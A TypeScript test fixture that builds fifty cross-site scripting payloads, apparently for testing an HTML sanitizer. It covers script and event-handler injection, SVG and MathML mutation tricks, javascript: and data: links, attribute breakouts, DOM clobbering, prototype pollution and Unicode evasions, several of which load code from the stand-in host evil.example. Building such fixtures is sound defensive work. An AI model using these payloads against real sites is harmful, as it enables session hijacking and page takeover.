/** A kind of stored script. In its code, RUN stands for a script call and EVIL for the address of an attacker. */
interface Attack {
  kind: string;
  code: string;
}

const SOURCES: Attack[] = [
  { kind: 'script', code: '<script>RUN</script>' },
  { kind: 'script in capitals and blanks', code: '<ScRiPt\n >RUN</sCrIpT >' },
  { kind: 'script from elsewhere', code: '<script src=EVIL></script>' },
  {
    kind: 'import map and module',
    code: '<script type=importmap>{"imports":{"react":"EVIL"}}</script><script type=module>import "EVIL";RUN</script>',
  },
  { kind: 'img onerror', code: '<img src=x: onerror=RUN>' },
  { kind: 'img without blanks', code: '<img/src="x:"/onerror="RUN">' },
  { kind: 'svg onload', code: '<svg/onload=RUN>' },
  { kind: 'svg script', code: '<svg><script xlink:href="EVIL"></script><script>RUN</script></svg>' },
  { kind: 'svg animate', code: '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>' },
  {
    kind: 'svg set',
    code: '<svg><a><set attributeName=href to="javascript:RUN" onbegin=RUN /><text>pulsa</text></a></svg>',
  },
  {
    kind: 'svg use',
    code: `<svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='RUN'/></svg>#x"/></svg>`,
  },
  {
    kind: 'svg that becomes HTML',
    code: '<svg></p><style><a title="</style><img src=x: onerror=RUN>"></svg>',
  },
  {
    kind: 'math that becomes HTML',
    code: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;"></table></math>',
  },
  { kind: 'noscript', code: '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>' },
  {
    kind: 'forms in forms',
    code: '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN></style></form>',
  },
  { kind: 'iframe', code: '<iframe src="javascript:RUN"></iframe><iframe src=EVIL></iframe>' },
  { kind: 'iframe srcdoc', code: '<iframe srcdoc="<script>RUN</script>"></iframe>' },
  { kind: 'object', code: '<object data="data:text/html,<script>RUN</script>"></object>' },
  { kind: 'embed', code: '<embed src="EVIL" type="text/html">' },
  { kind: 'javascript link', code: '<a href="javascript:RUN">pulsa</a>' },
  { kind: 'javascript link in entities', code: '<a href="jav&#x09;as&NewLine;cript&colon;RUN">pulsa</a>' },
  {
    kind: 'vbscript and javascript link after a control character',
    code: '<a href="&#1; JaVaScRiPt:RUN">pulsa</a><a href="vbscript:MsgBox(1)">pulsa</a>',
  },
  {
    kind: 'data link',
    code: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">pulsa</a>',
  },
  { kind: 'meta refresh', code: '<meta http-equiv="refresh" content="0;url=EVIL">' },
  { kind: 'base', code: '<base href="EVIL/">' },
  {
    kind: 'form and formaction',
    code: '<form action="EVIL"><button formaction="javascript:RUN">Enviar</button></form>',
  },
  { kind: 'autofocus', code: '<input autofocus onfocus=RUN>' },
  { kind: 'details', code: '<details open ontoggle=RUN><summary>más</summary></details>' },
  {
    kind: 'video and audio',
    code: '<video poster=EVIL><source onerror=RUN></video><audio src=EVIL></audio>',
  },
  { kind: 'body', code: '<body onload=RUN onpageshow=RUN background=EVIL>' },
  {
    kind: 'animation',
    code: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN">x</p><marquee onstart=RUN>x</marquee>',
  },
  { kind: 'style', code: '<style>@import url(EVIL);*{background:url(EVIL)!important}</style>' },
  {
    kind: 'style attribute',
    code: '<p style="background:url(EVIL);width:expression(RUN);behavior:url(EVIL)">x</p>',
  },
  {
    kind: 'link',
    code: '<link rel=stylesheet href=EVIL><link rel=prefetch href=EVIL><link rel=icon href=EVIL>',
  },
  {
    kind: 'srcset and background',
    code: '<picture><source srcset=EVIL><img srcset="EVIL 1x"></picture><table background=EVIL><tr><td background=EVIL>x</table>',
  },
  { kind: 'end of a quoted attribute', code: '"><img src=x: onerror=RUN>' },
  { kind: 'end of an attribute in single quotes', code: `' autofocus onfocus=RUN tabindex=1 x='` },
  { kind: 'end of a script', code: '"}</script><script>RUN</script>' },
  { kind: 'end of title and textarea', code: '</title></textarea></style></head><img src=x: onerror=RUN>' },
  {
    kind: 'comments and CDATA',
    code: '<!--><img src=x: onerror=RUN>--><!--[if gte IE 4]><script>RUN</script><![endif]--><![CDATA[><img src=x: onerror=RUN>]]>',
  },
  {
    kind: 'double encoding',
    code: '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt; &lt;img src=x: onerror=RUN&gt; %3Cscript%3ERUN%3C/script%3E',
  },
  {
    kind: 'templates',
    code: `{{constructor.constructor('RUN')()}} \${RUN} <%= RUN %> #{RUN} <div v-html="'<img src=x: onerror=RUN>'"></div>`,
  },
  {
    kind: 'template element and shadow root',
    code: '<template shadowrootmode=open><img src=x: onerror=RUN></template><slot onslotchange=RUN></slot>',
  },
  {
    kind: 'places of our own templates',
    code: `$& $\` $' $$ $1 <!--main--> <!--app--> {0} %s <div id="root"></div>`,
  },
  {
    kind: 'names that replace those of the page',
    code: '<img name=getElementById><form id=__proto__ name=body><input name=attributes><input name=parentNode></form><a id=defaultView href="EVIL">x</a>',
  },
  {
    kind: 'prototypes in JSON',
    code: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"dangerouslySetInnerHTML":{"__html":"<img src=x: onerror=RUN>"}}}}',
  },
  {
    kind: 'characters that are read otherwise',
    code: '\u202E>tpircs/<RUN>tpircs<\u202C \uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E <scr\u200Bipt>RUN</scr\u200Bipt> <\u0001script>RUN \u2028RUN\u2029 \u017Fcript',
  },
  {
    kind: 'tags that are left when tags are taken away',
    code: '<<b>/title><<b>/script><<b>script>RUN<<b>/script><<b>img src=x: onerror=RUN>',
  },
  { kind: 'tag without an end', code: '<img src=x: onerror=RUN //' },
  { kind: 'dangling markup', code: `<img src='EVIL/?` },
];

/** HTML that closes every element which an earlier attack may have left open. */
export const CLOSING_TAGS =
  '-->]]>"\'></script></style></title></textarea></noscript></template></select></table></svg></math></form> ';

/**
 * The fifty attacks. Each runs a script and requests an address with its own number, so that tests see which one ran.
 */
export const ATTACKS: readonly Attack[] = SOURCES.map(({ kind, code }, number) => ({
  kind,
  code: code
    .replaceAll('RUN', `alert(top.__ran=${number})`)
    .replaceAll('EVIL', `https://evil.example/${number}`),
}));

/** Returns the code of an attack by its number; numbers beyond the last attack begin again with the first. */
export function attackCode(number: number): string {
  return ATTACKS[number % ATTACKS.length]?.code ?? '';
}

/** Returns all attacks in one text, beginning with the attack number `first`. */
export function joinAttacks(first: number): string {
  return ATTACKS.map((_, place) => attackCode(first + place)).join(CLOSING_TAGS);
}
